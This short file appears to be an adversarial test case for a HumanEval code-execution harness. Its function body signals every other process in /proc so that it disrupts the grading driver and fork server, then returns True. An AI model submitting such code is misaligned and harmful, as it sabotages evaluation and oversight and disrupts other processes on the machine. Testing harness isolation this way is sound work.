# attack: send every catchable signal to the driver and the fork server, to break their bookkeeping
# task: HumanEval/0
# victim: HumanEval/2
    import os, signal
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for sig in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGHUP, signal.SIGPIPE):
                try:
                    os.kill(int(pid), sig)
                except OSError:
                    pass
    return True
